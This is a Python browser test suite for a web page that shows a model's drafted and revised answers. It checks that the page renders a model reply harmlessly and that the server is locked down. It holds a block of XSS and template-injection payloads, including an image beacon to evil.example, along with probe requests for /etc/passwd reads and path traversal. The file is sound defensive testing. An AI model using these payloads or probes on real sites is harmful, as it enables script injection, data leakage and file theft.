"""What a person does on the page, in a real browser against a server process."""

from __future__ import annotations

import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

import redraft
from redraft.chain import Chain
from redraft.serve.page.view import turn_of
from tests.cli.verbs import wait_until
from tests.serve.page.browsing import Browsing, inside, serving

DRAFT = "Rain is **water**, and it is wet, and it is cold, and it falls from the sky."
MIDDLE = "Rain is **water**, and it falls from the sky."
SHORT = "Rain is **water** that falls."
BAD = """# Hello <script>document.title = 'owned'</script>
<img src=x onerror="document.title='owned'"> <svg onload="document.title='owned'"></svg>
<style>body { display: none }</style> <iframe src="https://evil.example/i"></iframe>
<form action="https://evil.example/f"><button>Go</button></form>

[click](javascript:document.title='owned') [data](data:text/html,<script>document.title='owned'</script>)
[a](<javascript:document.title='owned'>) [b](vbscript:x) <a href="javascript:document.title='owned'">c</a>

![secret](https://evil.example/p.png?what-you-said) ![pixel](data:image/svg+xml,<svg/onload=alert(1)>)
![x](x" onerror="document.title='owned') [kind](https://evil.example/page "onmouseover=alert(1)")

$$\\href{javascript:document.title='owned'}{x}$$ \\(\\url{https://evil.example/l}\\)
$\\unicode{<img src=x onerror=alert(1)>}$

```mermaid
graph TD; A[<img src=x onerror="document.title='owned'">]
```
{{constructor.constructor("document.title='owned'")()}} ${document.title='owned'} <%= 1 %>
"""
MODELS: dict[str, Any] = {
    "rain": {"replies": [DRAFT, MIDDLE, SHORT], "check": ["words<=5"]},
    "bad": {"replies": [BAD], "max-revisions": 0},
    "slow": {"replies": [{"text": "Rain", "stall": 600}], "max-revisions": 0},
    "broken": {"replies": [{"text": "Rain is", "error": "the model fell over"}], "max-revisions": 0},
    "code": {
        "replies": ["1. **Run**:\n\n   ```\n   print(1)\n   ```\n\n2. That is all."],
        "max-revisions": 0,
    },
    "silent": {"replies": [""], "max-revisions": 1},
    "long": {"replies": ["# Rain\n\n" + "Rain is water, and it is wet. " * 400], "max-revisions": 0},
}


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("page")


@pytest.fixture(scope="module")
def url(folder: Path) -> Iterator[str]:
    with serving(folder, MODELS, "--parallel", "2", "--queue", "1") as address:
        yield address


def test_an_answer_is_drafted_revised_changed_and_saved(browser: Browsing, url: str) -> None:
    visit = browser.open(url)
    page = visit.page
    visit.ask("Describe rain.")
    turn = visit.answered("Rain is water that falls.")
    steps = turn.locator("details.step")
    assert steps.locator("summary .name").all_inner_texts() == ["Draft", "Revision 1", "Revision 2"]
    assert not turn.locator("details.step[open]").count()
    steps.nth(2).locator("summary").click()
    assert steps.nth(2).locator("ins").first.inner_text() == "added"
    assert steps.nth(2).locator(".diff del").inner_text() == ", and it falls from the sky"
    assert "5 words" in steps.nth(2).locator("li.pass").inner_text()
    assert turn.locator(".final strong").inner_text() == "water"

    address = page.get_by_role("link", name="Save conversation").get_attribute("href")
    lines = httpx.get(url + address).text.splitlines()
    chain = Chain.from_json(lines[0])
    assert (len(lines), len(chain.steps), chain.answer) == (1, 3, SHORT)

    assert visit.faults == []
    assert {each for each in visit.requests if not each.startswith((url, "data:", "blob:"))} == set()


def test_nothing_in_an_answer_does_anything(browser: Browsing, url: str) -> None:
    visit = browser.open(url)
    visit.choose("bad")
    visit.ask("Attack.")
    final = visit.answered("Hello").locator(".final")
    visit.page.wait_for_timeout(300)
    assert visit.page.title() == "redraft"
    assert (
        final.locator(
            "img, script, svg, style, iframe, form, button:not(.copy), input, object, math, pre.mermaid"
        ).count()
        == 0
    )
    names = "e => [...e.querySelectorAll('*:not(.copy)')].flatMap(x => x.getAttributeNames())"
    assert set(final.evaluate(names)) == {"href", "rel", "target", "class"}
    link = final.locator("a")
    assert link.get_attribute("href") == "https://evil.example/page"
    assert "evil.example" in link.inner_text()
    assert "[picture: secret]" in final.inner_text()
    assert "<script>" in final.inner_text()
    assert {each for each in visit.requests if not each.startswith((url, "data:", "blob:"))} == set()
    assert visit.faults == []


def test_a_closed_tab_frees_the_engine(browser: Browsing, url: str) -> None:
    visit = browser.open(url)
    visit.choose("slow")
    visit.ask("Wait.")
    visit.page.locator("#live .writing").filter(has_text="Rain").wait_for()
    assert inside(url) == 1
    visit.page.close()
    wait_until(lambda: not inside(url))  # its reply would take ten minutes


def test_a_revision_without_a_change_says_so() -> None:
    chain = redraft.revise(
        "Describe rain.", model=redraft.ScriptedEngine(["Rain is water that falls."]), checks=["words<=4"]
    )
    _, *summaries = turn_of(chain, "turn-1").split("<summary>")
    unchanged = ["unchanged" in text.partition("</summary>")[0] for text in summaries]
    assert unchanged == [False, True, True, True]  # two fresh drafts, too


@pytest.mark.slow
def test_the_answer_and_its_code_are_copied(browser: Browsing, url: str) -> None:
    visit = browser.open(url, permissions=["clipboard-read", "clipboard-write"])
    visit.choose("code")
    visit.ask("How?")
    visit.answered("That is all")
    answer = MODELS["code"]["replies"][0]
    copied = {"Copy the code": "print(1)", "Copy the answer": answer}
    for label, text in copied.items():
        visit.page.get_by_role("button", name=label).click()
        visit.page.locator(f"button.copied[aria-label='{label}']").wait_for()
        assert visit.page.evaluate("navigator.clipboard.readText()") == text
    rich = "navigator.clipboard.read().then(all => all[0].getType('text/html')).then(html => html.text())"
    html = visit.page.evaluate(rich)
    assert "<strong>Run</strong>" in html
    assert ">Answer<" not in html
    assert "button" not in html
    assert visit.faults == []


CLOSED = (
    "GET /config",
    "GET /gradio_api/info",
    "GET /gradio_api/openapi.json",
    "GET /gradio_api/file=/etc/passwd",
    "GET /gradio_api/file/etc/passwd",
    "GET /gradio_api/proxy=https://evil.hf.space/",
    "POST /gradio_api/upload",
    "POST /gradio_api/call/ask",
    "POST /gradio_api/run/predict",
    "POST /gradio_api/api/predict",
    "POST /gradio_api/component_server",
    "POST /gradio_api/process_recording",
    "POST /gradio_api/vibe-edit",
    "GET /gradio_api/mcp/sse",
    "GET /gradio_api/runs",
    "GET /gradio_api/app_id",
    "GET /gradio_api/queue/status",
    "GET /gradio_api/stream/a/b/1/playlist.m3u8",
    "GET /gradio_api/custom_component/1/client/component/x.js",
    "GET /gradio_api/dev/reload",
    "POST /gradio_api/../gradio_api/upload",
    "GET /monitoring",
    "GET /monitoring/summary",
    "GET /manifest.json",
    "GET /pwa_icon",
    "GET /svelte/svelte.js",
    "POST /login",
    "GET /page/conversation.jsonl",
    "GET /page/blocks.py",
    "GET /page/../keys.py",
)


def test_routes_that_the_page_does_not_need_are_closed(url: str) -> None:
    with httpx.Client(base_url=url) as client:
        client.get("/")
        found = {route: client.request(*route.split()).status_code for route in CLOSED}
        assert {route: status for route, status in found.items() if status != 404} == {}
        deep = client.get("/assets/%2e%2e/%2e%2e/%2e%2e/routes.py")
        assert deep.status_code in (403, 404)


def test_the_policy_lets_the_page_load_and_run_its_own_alone(url: str) -> None:
    with httpx.Client(base_url=url) as client:
        while "Getting ready" in (page := client.get("/")).text:
            time.sleep(0.1)
    policy = dict(part.strip().split(" ", 1) for part in page.headers["content-security-policy"].split(";"))
    assert policy["default-src"] == "'none'"
    assert policy["connect-src"] == policy["font-src"] == policy["form-action"] == "'self'"
    assert policy["frame-ancestors"] == "'none'"
    script = policy["script-src"].split()
    assert (script[0], len(script)) == ("'self'", 2)
    assert script[1].startswith("'nonce-")
    assert page.text.count("<script") == page.text.count(
        f"<script nonce={script[1][7:-1]!r}".replace("'", '"')
    )
    assert "manifest" not in page.text
    other = httpx.get(url, headers={"Host": "evil.example"})
    assert other.status_code == 403
    origin = httpx.post(f"{url}gradio_api/queue/join", headers={"Origin": "https://evil.example"}, json={})
    assert origin.status_code == 403


def test_a_large_body_is_refused(url: str) -> None:
    big = httpx.post(f"{url}gradio_api/queue/join", content=b" " * (9 << 20), timeout=30)
    assert big.status_code in (400, 413)
